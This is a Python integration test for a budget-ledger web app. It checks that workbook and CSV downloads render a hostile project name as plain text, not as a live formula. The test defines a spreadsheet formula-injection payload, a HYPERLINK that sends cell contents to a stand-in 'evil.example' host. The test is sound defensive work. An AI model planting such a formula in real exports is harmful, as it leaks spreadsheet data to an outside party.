"""The 工作台 against a hostile reviewer's findings, on SQLite and PostgreSQL: downloads
carry no live formula, the expensive pages are throttled like the API, refusals carry the
API's status, links and redirects encode what they carry, the hash chain is for
ledger-wide readers, and a confirmation shows the exact amount to be posted."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from commands.handlers import CommandHandler
from commands.models import parse_command
from ledger.application import Ledger
from ledger.roles import Role
from tests.integration.test_api import issue
from tests.integration.test_web import UNIT, sign_in, web  # noqa: F401

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def given(ledger: Ledger, *commands: dict[str, Any]) -> None:
    handler = CommandHandler(ledger)
    for n, fields in enumerate(commands):
        data = {
            "command_id": f"hostile-{n}",
            "posted_by": "会计-王芳",
            "business_date": "2022-03-01",
            **fields,
        }
        handler.handle(parse_command(data))


def test_downloads_carry_no_formula_from_a_project_name(
    web: TestClient,  # noqa: F811
    ledger: Ledger,
) -> None:
    given(
        ledger,
        {"type": "register_project", "unit": UNIT, "code": "PX", "name": EVIL},
        {
            "type": "open_budget_line",
            "unit": UNIT,
            "year": 2022,
            "line": "XM-PX-2010399",
            "title": "+项目指标",
            "nature": "project",
            "function_code": "2010399",
            "fund_source": "general_public_budget",
            "project": "PX",
        },
        {
            "type": "allocate_budget",
            "unit": UNIT,
            "year": 2022,
            "line": "XM-PX-2010399",
            "amount": "1000.00",
            "document_no": "@昌市财预〔2022〕7号",
        },
    )
    sign_in(web, issue(ledger, "审计-张", Role.AUDITOR))
    workbook = web.get(f"/u/{UNIT}/2022/download/workbook")
    assert workbook.status_code == 200, workbook.text
    book = load_workbook(io.BytesIO(workbook.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any(c.value == EVIL for c in cells), "the project is in the workbook, as text"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    archive = zipfile.ZipFile(io.BytesIO(web.get(f"/u/{UNIT}/2022/download/csv").content))
    fields = [
        field
        for name in archive.namelist()
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
        for field in row
    ]
    assert "'" + EVIL in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [f for f in fields if f.startswith("-") and not f[1:].replace(".", "").isdigit()]
